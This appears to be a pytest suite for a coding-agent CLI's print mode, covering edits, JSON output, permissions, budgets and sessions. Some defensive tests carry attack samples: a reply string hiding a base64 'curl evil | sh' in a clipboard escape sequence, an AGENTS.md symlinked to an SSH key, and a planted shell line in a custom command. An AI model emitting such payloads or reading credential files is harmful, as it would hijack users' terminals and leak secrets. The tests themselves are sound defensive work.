"""Print mode end to end: `larik -p` on a scripted model, editing files in a temp project."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from larik import cli
from larik.agent.transcript import load_transcript
from larik.printmode import PrintOptions, run_print
from tests.patience import WAIT


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "proj"
    root.mkdir()
    (root / "calc.py").write_text("def add(a, b):\n    return a - b\n")
    monkeypatch.chdir(root)
    return root


def write_script(path: Path, *turns: dict) -> str:
    path.write_text(json.dumps({"turns": list(turns)}))
    return f"scripted/{path}"


FIX = (
    {"text": "Reading.", "tool_calls": [{"name": "read_file", "input": {"path": "calc.py"}}]},
    {
        "tool_calls": [
            {
                "name": "edit_file",
                "input": {"path": "calc.py", "old_string": "a - b", "new_string": "a + b"},
            }
        ]
    },
    {"text": "Fixed: add now adds.", "usage": {"input": 100, "output": 20}},
)


def larik(*argv: str, stdin: str = "") -> tuple[int, str, str]:
    """Run the real CLI entry in-process; returns (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    old = sys.argv, sys.stdin, sys.stdout, sys.stderr
    sys.argv, sys.stdin, sys.stdout, sys.stderr = ["larik", *argv], io.StringIO(stdin), out, err
    try:
        cli.main()
        code = 0
    except SystemExit as e:
        code = int(e.code or 0)
    finally:
        sys.argv, sys.stdin, sys.stdout, sys.stderr = old
    return code, out.getvalue(), err.getvalue()


def test_print_mode_edits_a_file_and_prints_the_final_answer(project, tmp_path):
    model = write_script(tmp_path / "fix.json", *FIX)
    code, out, err = larik("-p", "fix add", "--model", model, "--permission-mode", "edits")
    assert code == 0, err
    assert out == "Fixed: add now adds.\n"
    assert (project / "calc.py").read_text() == "def add(a, b):\n    return a + b\n"


def test_json_output_has_text_usage_cost_session_and_stop_reason(project, tmp_path):
    model = write_script(tmp_path / "fix.json", *FIX)
    code, out, _ = larik(
        "-p", "fix add", "-m", model, "--permission-mode", "yolo", "--output-format", "json"
    )
    assert code == 0
    result = json.loads(out)
    assert result["type"] == "result" and result["ok"] is True
    assert result["text"] == "Fixed: add now adds." and result["stop_reason"] == "end_turn"
    assert result["session_id"] and result["usage"]["input"] >= 100
    assert "cost" in result and result["usage_by_role"]["main"]["output"] >= 20
    assert result["model"] == model


def test_stream_json_prints_one_event_per_line_then_the_result(project, tmp_path):
    model = write_script(tmp_path / "fix.json", *FIX)
    code, out, _ = larik(
        "-p", "fix add", "-m", model, "--permission-mode", "yolo", "--output-format", "stream-json"
    )
    assert code == 0
    lines = [json.loads(line) for line in out.splitlines()]
    kinds = [line["type"] for line in lines]
    assert kinds[0] == "message" and kinds[-2:] == ["turn_end", "result"]
    for kind in ("text_delta", "tool_start", "tool_end", "usage"):
        assert kind in kinds
    edit_end = [x for x in lines if x["type"] == "tool_end" and x["tool_name"] == "edit_file"][0]
    assert "+    return a + b" in edit_end["data"]["diff"]


def test_stream_json_keeps_no_copy_of_the_text_a_write_replaced(project, tmp_path):
    read = {"tool_calls": [{"name": "read_file", "input": {"path": "calc.py"}}]}
    write = {"name": "write_file", "input": {"path": "calc.py", "content": "x = 1\n"}}
    model = write_script(tmp_path / "w.json", read, {"tool_calls": [write]}, {"text": "done"})
    argv = ["-p", "rewrite", "-m", model, "--permission-mode", "yolo"]
    code, out, _ = larik(*argv, "--output-format", "stream-json")
    assert code == 0
    [end] = [x for x in map(json.loads, out.splitlines()) if x.get("tool_name") == "write_file"
             and x["type"] == "tool_end"]  # fmt: skip
    assert "-    return a - b" in end["data"]["diff"] and "previous" not in end["data"]


def test_ask_mode_in_print_mode_denies_and_says_so_in_the_tool_result(project, tmp_path):
    model = write_script(tmp_path / "fix.json", *FIX)
    code, out, _ = larik("-p", "fix add", "-m", model, "--output-format", "stream-json")
    assert code == 0  # the model finished its turn; the edit was refused
    assert "a - b" in (project / "calc.py").read_text()
    ends = [json.loads(x) for x in out.splitlines() if '"tool_end"' in x]
    denied = [e for e in ends if e["tool_name"] == "edit_file"][0]
    assert denied["is_error"] and "no one to ask" in denied["text"]
    refusal = denied["data"]["refusal"]  # the remedy as facts, for a script to phrase
    assert refusal["mode"] == "edits" and refusal["rules"] == ["edit_file: calc.py"]
    assert refusal["unasked"] is True and refusal["what"] == "file changes"


def test_the_prompt_can_come_from_stdin(project, tmp_path):
    from larik.agent.sessions import latest_session

    model = write_script(tmp_path / "s.json", {"text": "got it"})
    code, out, _ = larik("-p", "-", "-m", model, stdin="a long prompt\nfrom a pipe\n")
    assert code == 0 and out == "got it\n"
    assert latest_session(project).first_prompt == "a long prompt from a pipe"


def test_a_provider_failure_exits_1_with_one_line(project, tmp_path):
    model = write_script(tmp_path / "s.json", {"error": {"status": 400, "message": "bad thing"}})
    code, out, err = larik("-p", "hi", "-m", model)
    assert code == 1 and out == ""
    assert err.strip().count("\n") == 0 and "bad thing" in err and "Traceback" not in err


def test_the_max_turns_limit_exits_1_and_says_why(project, tmp_path):
    call = {"tool_calls": [{"name": "glob", "input": {"pattern": "*"}}]}
    model = write_script(tmp_path / "s.json", call, call, call)
    code, out, err = larik("-p", "loop", "-m", model, "--max-turns", "2", "--output-format", "json")
    assert code == 1 and json.loads(out)["stop_reason"] == "max_turns"


def test_a_looping_model_ends_stuck_in_json_and_stream_json(project, tmp_path):
    call = {"tool_calls": [{"name": "glob", "input": {"pattern": "*"}}]}
    model = write_script(tmp_path / "s.json", *[call] * 100)
    code, out, _ = larik("-p", "loop", "-m", model, "--output-format", "json")
    result = json.loads(out)
    assert code == 1 and result["stop_reason"] == "stuck" and not result["ok"]
    code, out, _ = larik("-p", "loop", "-m", model, "--output-format", "stream-json")
    lines = [json.loads(x) for x in out.splitlines()]
    end = [x for x in lines if x["type"] == "turn_end"][0]
    assert code == 1 and end["stop_reason"] == "stuck" and end["data"]["stuck"] == "repeat"
    assert lines[-1]["stop_reason"] == "stuck"
    code, out, err = larik("-p", "loop", "-m", model)
    assert code == 1 and "stuck" in err and "Traceback" not in err


@pytest.mark.parametrize(
    "argv,needle",
    [
        (["--output-format", "xml"], "unknown output format"),
        (["--effort", "extreme"], "unknown effort"),
        (["--permission-mode", "reckless"], "unknown permission mode"),
        (["--max-turns", "0"], "--max-turns"),
        (["--model", "scripted/does-not-exist.json"], "not found"),
    ],
)
def test_bad_usage_exits_2_with_one_line(project, tmp_path, argv, needle):
    model = write_script(tmp_path / "s.json", {"text": "x"})
    args = ["-p", "hi", "-m", model, *argv] if "--model" not in argv else ["-p", "hi", *argv]
    code, out, err = larik(*args)
    assert code == 2 and out == ""
    assert needle in err and err.count("\n") == 1 and "Traceback" not in err


def test_an_empty_prompt_is_bad_usage(project):
    code, _, err = larik("-p", "   ")
    assert code == 2 and "no prompt" in err


def test_a_bad_config_file_exits_2(project, tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    (home / "config.toml").write_text("model = [unclosed\n")
    monkeypatch.setenv("LARIK_HOME", str(home))
    code, _, err = larik("-p", "hi")
    assert code == 2 and err.startswith("larik: ") and err.count("\n") == 1


def test_continue_resumes_the_latest_session(project, tmp_path):
    model = write_script(tmp_path / "s.json", {"text": "first answer"}, {"text": "second answer"})
    code, out, _ = larik("-p", "one", "-m", model, "--output-format", "json")
    first = json.loads(out)
    code, out, _ = larik("-p", "two", "-m", model, "--continue", "--output-format", "json")
    second = json.loads(out)
    assert code == 0 and second["session_id"] == first["session_id"]
    from larik.agent.sessions import find_session

    msgs = load_transcript(find_session(project, first["session_id"])).messages
    assert [m.text() for m in msgs] == ["one", "first answer", "two", "second answer"]


def test_resume_with_an_id_and_listing_without_one(project, tmp_path):
    model = write_script(tmp_path / "s.json", {"text": "a"}, {"text": "b"})
    _, out, _ = larik("-p", "remember me", "-m", model, "--output-format", "json")
    sid = json.loads(out)["session_id"]
    code, listing, _ = larik("--resume")
    assert code == 0 and sid in listing and "remember me" in listing
    code, out, _ = larik("-p", "again", "-m", model, "--resume", sid, "--output-format", "json")
    assert code == 0 and json.loads(out)["session_id"] == sid
    code, _, err = larik("-p", "x", "-m", model, "--resume", "no-such-session")
    assert code == 2 and "no session" in err


def test_the_resume_list_shows_model_and_last_activity_newest_first(project, tmp_path):
    import os
    from datetime import datetime

    from larik.agent.sessions import find_session

    old = write_script(tmp_path / "old.json", {"text": "a"})
    new = write_script(tmp_path / "new.json", {"text": "b"})
    ids = []
    for model, prompt in ((new, "the newer one"), (old, "the older one")):
        _, out, _ = larik("-p", prompt, "-m", model, "--output-format", "json")
        ids.append(json.loads(out)["session_id"])
    times = (datetime(2002, 2, 2, 11, 30), datetime(2001, 1, 1, 10, 5))
    for sid, when in zip(ids, times, strict=True):
        os.utime(find_session(project, sid), (when.timestamp(), when.timestamp()))
    code, listing, _ = larik("--resume")
    header, first, second = listing.splitlines()[:3]
    assert code == 0 and "MODEL" in header and "LAST ACTIVE" in header
    assert first.startswith(ids[0]) and second.startswith(ids[1])
    assert "2002-02-02 11:30" in first and "new.json" in first and "the newer one" in first
    assert "2001-01-01 10:05" in second and "old.json" in second


def test_run_print_is_usable_as_a_library(project, tmp_path):
    model = write_script(tmp_path / "s.json", {"text": "lib"})
    out, err = io.StringIO(), io.StringIO()
    code = run_print(PrintOptions(prompt="hi", cwd=project, model=model), stdout=out, stderr=err)
    assert code == 0 and out.getvalue() == "lib\n"


def test_no_traceback_from_the_real_command(project, tmp_path):
    proc = subprocess.run(
        [sys.executable, "-m", "larik.cli", "-p", "hi", "--output-format", "bogus"],
        capture_output=True,
        text=True,
        cwd=project,
    )
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert proc.stderr.startswith("larik: unknown output format")


def test_ctrl_c_exits_130_with_a_final_result_and_a_resumable_session(project, tmp_path):
    import os
    import signal

    from larik.agent.sessions import latest_session

    model = write_script(tmp_path / "slow.json", {"text": "word " * 400, "hold": 2})
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "larik.cli",
            "-p",
            "talk",
            "-m",
            model,
            "--output-format",
            "stream-json",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=project,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
    )
    assert proc.stdout is not None
    for line in proc.stdout:
        if '"text_delta"' in line:
            break
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=WAIT)
    assert proc.returncode == 130 and "interrupted" in err and "Traceback" not in err
    result = json.loads(out.splitlines()[-1])
    assert result["type"] == "result" and result["stop_reason"] == "interrupted"
    assert result["ok"] is False and result["session_id"]
    msgs = load_transcript(latest_session(project).path).messages
    assert msgs[-1].role == "assistant" and msgs[-1].interrupted and msgs[-1].text()


def test_a_closed_stdout_stops_quietly_with_141_and_keeps_the_session(project, tmp_path):
    """`larik -p … | head -1`: no traceback, no 'Exception ignored', the session saved."""
    from larik.agent.sessions import latest_session

    model = write_script(tmp_path / "long.json", {"text": "word " * 400, "delay": 0.01})
    proc = subprocess.Popen(
        [sys.executable, "-m", "larik.cli", "-p", "talk", "-m", model],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=project,
    )
    proc.stdout.close()  # the reader is gone before the first byte is written
    _, err = proc.communicate(timeout=WAIT)
    assert proc.returncode == 141
    assert err == b""
    assert load_transcript(latest_session(project).path).messages[0].text() == "talk"


def test_a_reader_leaving_mid_stream_json_stops_quietly(project, tmp_path):
    # streams for minutes: the reader leaves while it writes, however slow the machine
    model = write_script(tmp_path / "long.json", {"text": "word " * 4000, "delay": 0.05})
    argv = ["-p", "talk", "-m", model, "--output-format", "stream-json"]
    proc = subprocess.Popen(
        [sys.executable, "-m", "larik.cli", *argv],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=project,
    )
    assert proc.stdout is not None
    proc.stdout.readline()
    proc.stdout.close()
    _, err = proc.communicate(timeout=WAIT)
    assert proc.returncode == 141 and err == b""


def test_the_tui_without_a_terminal_is_one_line_pointing_at_print_mode(project):
    proc = subprocess.run(
        [sys.executable, "-m", "larik.cli"],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        cwd=project,
        timeout=WAIT,
    )
    assert proc.returncode == 2 and proc.stdout == ""
    assert proc.stderr.startswith("larik: the TUI needs a terminal") and "larik -p" in proc.stderr
    assert len(proc.stderr.splitlines()) == 1


@pytest.mark.parametrize(
    "argv",
    [
        ["-p", "do it", "--resume"],
        ["--resume", "-p", "do it"],
        ["-p", "do it", "-r", "--output-format", "json"],
        ["-p", "do it", "--resume", "--fork"],
    ],
)
def test_print_mode_resume_without_an_id_is_bad_usage_not_a_listing(project, tmp_path, argv):
    from larik.agent.sessions import list_sessions

    model = write_script(tmp_path / "s.json", {"text": "earlier"}, {"text": "ran"})
    larik("-p", "earlier", "-m", model)
    before = list_sessions(project)
    code, out, err = larik(*argv, "-m", model)
    assert code == 2 and out == "" and "Traceback" not in err
    assert err == (
        "larik: --resume needs a session id in print mode: use --continue (-c) for the latest "
        "session, or run `larik --resume` to list them\n"
    )
    after = list_sessions(project)
    assert [s.id for s in after] == [s.id for s in before]
    assert after[0].messages == before[0].messages  # the prompt never ran


def test_plan_mode_prints_the_plan_changes_nothing_and_says_how_to_carry_on(project, tmp_path):
    turns = (
        {
            "tool_calls": [
                {
                    "name": "edit_file",
                    "input": {"path": "calc.py", "old_string": "a - b", "new_string": "a + b"},
                }
            ]
        },
        {"text": "1. Change a - b to a + b in calc.py."},
    )
    model = write_script(tmp_path / "plan.json", *turns)
    code, out, err = larik("-p", "fix add", "-m", model, "--permission-mode", "plan")
    assert code == 0, err
    assert out == "1. Change a - b to a + b in calc.py.\n"
    assert "--permission-mode edits" in err
    refused = next(line for line in err.splitlines() if "was not run" in line)
    assert refused.endswith("To allow file changes, rerun with --permission-mode edits."), err
    assert (project / "calc.py").read_text() == "def add(a, b):\n    return a - b\n"
    model = write_script(tmp_path / "plan2.json", *turns)
    code, out, _ = larik(
        "-p", "fix add", "-m", model, "--permission-mode", "plan", "--output-format", "json"
    )
    assert json.loads(out)["plan"] == "1. Change a - b to a + b in calc.py."


def test_a_call_denied_in_ask_mode_is_one_stderr_line_saying_how_to_allow_it(project, tmp_path):
    model = write_script(tmp_path / "fix.json", *FIX)
    code, out, err = larik("-p", "fix add", "-m", model)
    assert code == 0 and out == "Fixed: add now adds.\n"
    lines = [line for line in err.splitlines() if "was not run" in line]
    assert len(lines) == 1, err
    assert lines[0].startswith("larik: edit_file calc.py was not run: permission denied")
    assert "--permission-mode edits" in lines[0] and "'edit_file: calc.py'" in lines[0]
    # print mode's words for the policy's remedy (the model's own text names no face's flag)
    assert (
        "no one to ask (print mode). To allow file changes, rerun with --permission-mode edits, or add"
        in lines[0]
    )


def test_nothing_is_said_about_calls_that_ran(project, tmp_path):
    model = write_script(tmp_path / "fix.json", *FIX)
    code, _, err = larik("-p", "fix add", "-m", model, "--permission-mode", "edits")
    assert code == 0 and "was not run" not in err and "+" not in err


def test_verbose_prints_each_tool_call_and_model_reply_on_stderr(project, tmp_path):
    model = write_script(tmp_path / "fix.json", *FIX)
    code, out, err = larik("-p", "fix add", "-m", model, "--permission-mode", "edits", "--verbose")
    assert code == 0 and out == "Fixed: add now adds.\n"  # stdout is the answer alone
    lines = err.splitlines()
    assert "larik: · read_file calc.py" in lines
    assert any(line.startswith("larik: · edit_file calc.py") for line in lines)
    assert sum("replied (" in line for line in lines) == 3


def test_without_verbose_and_not_a_terminal_there_is_no_progress(project, tmp_path):
    model = write_script(tmp_path / "fix.json", *FIX)
    _, _, err = larik("-p", "fix add", "-m", model, "--permission-mode", "edits")
    assert "larik: ·" not in err


def test_a_custom_command_runs_in_print_mode(project, tmp_path):
    """`larik -p "/review src/"`: a .claude/commands file, unchanged; a shell line in this
    untrusted project is refused (a warning on stderr, nothing run); a prompt starting with /
    that names no command is sent as written."""
    from larik.agent.sessions import latest_session

    marker = project / "RAN"  # inside: the bash sandbox lets a command write there
    commands = project / ".claude" / "commands"
    commands.mkdir(parents=True)
    (commands / "review.md").write_text(
        "---\ndescription: Review\nargument-hint: [path]\n---\n"
        f"Review $ARGUMENTS carefully. !`touch {marker}`\n@calc.py\n"
    )
    model = write_script(tmp_path / "s.json", {"text": "looks fine"}, {"text": "hosts"})
    code, out, err = larik("-p", "/review src/", "-m", model, "--permission-mode", "yolo")
    assert code == 0 and out == "looks fine\n"
    assert not marker.exists()
    assert "warning: /review: !`touch" in err and "not trusted" in err
    assert ".claude/commands" in err and "ignored (untrusted project)" in err
    sent = load_transcript(latest_session(project).path).messages[0].text()
    assert sent.startswith("Review src/ carefully. [!`touch")
    assert '<file path="calc.py">\ndef add(a, b):' in sent
    code, out, _ = larik("-p", "/etc/hosts is odd", "-m", model)
    assert out == "hosts\n"
    assert load_transcript(latest_session(project).path).messages[0].text() == "/etc/hosts is odd"


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


REPLY = "Done.\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\ \x1b[2J\x9b8m hidden\r\nnext\tline"


@pytest.mark.parametrize("terminal", [True, False])
def test_a_reply_with_escape_sequences_reaches_a_terminal_defused(project, tmp_path, terminal):
    """A steered model's reply carrying OSC 52 (the clipboard), a screen clear or an 8-bit CSI
    is written to a terminal with each control character as U+FFFD (tab and newline kept); to a
    pipe or a file it is the model's text as it came (data for a script)."""
    model = write_script(tmp_path / "s.json", {"text": REPLY})
    out = _Terminal() if terminal else io.StringIO()
    err = _Terminal() if terminal else io.StringIO()
    code = run_print(PrintOptions(prompt="hi", cwd=project, model=model), stdout=out, stderr=err)
    assert code == 0
    written = out.getvalue()
    if terminal:
        assert not any(c in written for c in "\x1b\x9b\r")
        assert "Done.\ufffd]52;c;" in written and "hidden\nnext\tline" in written
    else:
        assert REPLY in written


def test_an_instruction_file_leading_outside_is_a_warning_on_stderr_and_not_sent(project, tmp_path):
    """Issue 22 item 2: ``AGENTS.md -> ~/.ssh/id_rsa`` is named on stderr, not sent."""
    from larik.llm.registry import scripted_provider

    key = tmp_path / "id_rsa"
    key.write_text("PRIVATE KEY ghp_SECRET\n")
    (project / "AGENTS.md").symlink_to(key)
    model = write_script(tmp_path / "s.json", {"text": "done"})
    code, out, err = larik("-p", "hi", "-m", model)
    assert code == 0 and out == "done\n"
    assert "larik: warning: AGENTS.md was not read into the system prompt: it leads outside" in err
    sent = scripted_provider(model.removeprefix("scripted/")).requests[0].system
    assert "ghp_SECRET" not in "".join(sent)


# ------------------------------------------------------------------------------ budgets

DOLLAR_REPLY = {"input": 10, "output": 1000}  # $1.00 at $1000 per million output tokens


def _priced(spec: str, budget: str = "") -> None:
    """The user's config: ``spec`` priced, and ``budget`` (TOML lines of [budget])."""
    from larik.config import user_config_path

    path = user_config_path()
    path.parent.mkdir(parents=True, exist_ok=True)
    prices = f'[models."{spec}"]\ninput_price = 0.0\noutput_price = 1000.0\n'
    path.write_text(prices + (f"[budget]\n{budget}\n" if budget else ""))


def test_max_budget_usd_stops_before_the_request_that_would_cross_it(project, tmp_path):
    call = {"tool_calls": [{"name": "glob", "input": {"pattern": "*"}}], "usage": DOLLAR_REPLY}
    model = write_script(tmp_path / "s.json", call, {"text": "never", "usage": DOLLAR_REPLY})
    _priced(model)
    code, out, err = larik(
        "-p", "look", "-m", model, "--max-budget-usd", "1.5", "--output-format", "json"
    )
    result = json.loads(out)
    assert code == 1 and result["stop_reason"] == "budget" and not result["ok"]
    assert result["cost"] == pytest.approx(1.0) and result["budget"]["session_usd"] == 1.5
    assert result["budget"]["left"] == pytest.approx(0.5)
    model = write_script(tmp_path / "t.json", call, {"text": "never", "usage": DOLLAR_REPLY})
    _priced(model)
    code, out, err = larik("-p", "look", "-m", model, "--max-budget-usd", "1.5")
    assert code == 1 and "would cross the session budget of $1.50 ($1.00 spent)" in err
    assert "ended without finishing (budget)" in err and "Traceback" not in err


def test_the_configs_turn_budget_ends_the_run_budget_in_stream_json(project, tmp_path):
    call = {"tool_calls": [{"name": "glob", "input": {"pattern": "*"}}], "usage": DOLLAR_REPLY}
    model = write_script(tmp_path / "s.json", call, {"text": "never"})
    _priced(model, "turn_usd = 1.5")
    code, out, _ = larik("-p", "look", "-m", model, "--output-format", "stream-json")
    lines = [json.loads(x) for x in out.splitlines()]
    [end] = [x for x in lines if x["type"] == "turn_end"]
    assert code == 1 and end["stop_reason"] == "budget" and "turn budget" in end["data"]["budget"]
    assert lines[-1]["stop_reason"] == "budget" and lines[-1]["budget"]["turn_usd"] == 1.5


@pytest.mark.parametrize("value", ["0", "-1"])
def test_a_budget_that_is_not_positive_is_bad_usage(project, tmp_path, value):
    model = write_script(tmp_path / "s.json", {"text": "x"})
    code, out, err = larik("-p", "hi", "-m", model, f"--max-budget-usd={value}")
    assert code == 2 and out == "" and "--max-budget-usd" in err


def test_a_budget_stop_from_the_real_command(project, tmp_path):
    call = {"tool_calls": [{"name": "glob", "input": {"pattern": "*"}}], "usage": DOLLAR_REPLY}
    model = write_script(tmp_path / "s.json", call, {"text": "never", "usage": DOLLAR_REPLY})
    _priced(model)
    argv = ["-p", "look", "-m", model, "--max-budget-usd", "1.5", "--output-format", "json"]
    proc = subprocess.run(
        [sys.executable, "-m", "larik.cli", *argv],
        capture_output=True,
        text=True,
        cwd=project,
        timeout=120,
    )
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert json.loads(proc.stdout)["stop_reason"] == "budget"


def test_the_tui_gets_max_budget_usd_and_refuses_a_bad_one(project, monkeypatch):
    import larik.tui

    seen: dict = {}
    monkeypatch.setattr(larik.tui, "run_tui", lambda **kw: seen.update(kw) or 0)
    monkeypatch.setattr(sys, "stdin", type("T", (), {"isatty": staticmethod(lambda: True)})())
    monkeypatch.setattr(sys, "stdout", type("T", (), {"isatty": staticmethod(lambda: True)})())
    monkeypatch.setattr(sys, "argv", ["larik", "--max-budget-usd", "2.5"])
    with pytest.raises(SystemExit) as e:
        cli.main()
    assert e.value.code == 0 and seen["max_budget_usd"] == 2.5
    from larik.interactive import run_interactive

    assert run_interactive(project, max_budget_usd=0.0) == 2


def test_the_files_a_prompt_names_are_attached_and_the_rest_said_on_stderr(project, tmp_path):
    model = write_script(tmp_path / "m.json", {"text": "seen"})
    (tmp_path / "outside.txt").write_text("not the project's\n")
    prompt = "look at @calc.py and @missing.py and @../outside.txt"
    code, out, err = larik("-p", prompt, "--model", model, "--output-format", "json")
    assert code == 0, err
    from larik.agent.sessions import find_session

    [user, _] = load_transcript(find_session(project, json.loads(out)["session_id"])).messages
    texts = [b.text for b in user.blocks if b.type == "text"]
    assert texts[0] == prompt and '<file path="calc.py">\ndef add(a, b):' in texts[1]
    assert len(texts) == 2 and "not the project's" not in "".join(texts)
    assert "larik: warning: @missing.py: no such file" in err
    assert "larik: warning: @../outside.txt: outside the project, not attached" in err


def test_a_prompt_with_files_is_kept_as_typed_for_the_lists(project, tmp_path):
    """Issue 43 item 5's class: /rewind after resuming a print-mode session gave back the
    prompt with the files' contents in it (sending it attached them twice)."""
    from larik.agent.rewind import turns_of
    from larik.agent.sessions import find_session

    model = write_script(tmp_path / "m.json", {"text": "seen"})
    prompt = "look at @calc.py"
    code, out, err = larik("-p", prompt, "--model", model, "--output-format", "json")
    assert code == 0, err
    path = find_session(project, json.loads(out)["session_id"])
    assert [t.prompt for t in turns_of(load_transcript(path).records)] == [prompt]


def test_the_notice_after_an_edit_nothing_checked_names_the_file(project, tmp_path):
    """A real ``larik -p``: the warning said ``changed 1 file and ran nothing`` — which one?"""
    import os

    model = write_script(tmp_path / "fix.json", *FIX)
    argv = ["-p", "fix add", "-m", model, "--permission-mode", "edits"]
    proc = subprocess.run(
        [sys.executable, "-m", "larik.cli", *argv],
        capture_output=True,
        text=True,
        cwd=project,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])},
    )
    assert proc.returncode == 0, proc.stderr
    assert "changed calc.py and ran nothing to check them" in proc.stderr


def test_a_local_model_that_cannot_start_is_the_one_line_before_anything_runs(project):
    """``-m local/NAME`` not pulled (or the engine not installed): the edit workflow ran the
    project's tests first, and its refusal to run pytest came before the real problem."""
    import os

    (project / "test_calc.py").write_text(
        "from calc import add\n\ndef test_add():\n    assert add(1, 2) == 3\n"
    )
    argv = ["-p", "fix the failing test", "-m", "local/qwen2.5-coder-0.5b"]
    proc = subprocess.run(
        [sys.executable, "-m", "larik.cli", *argv, "--permission-mode", "edits"],
        capture_output=True,
        text=True,
        cwd=project,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])},
    )
    assert proc.returncode == 1
    assert proc.stderr.startswith("larik: local: no local model 'qwen2.5-coder-0.5b'"), proc.stderr
    assert "pytest" not in proc.stderr and len(proc.stderr.splitlines()) == 1
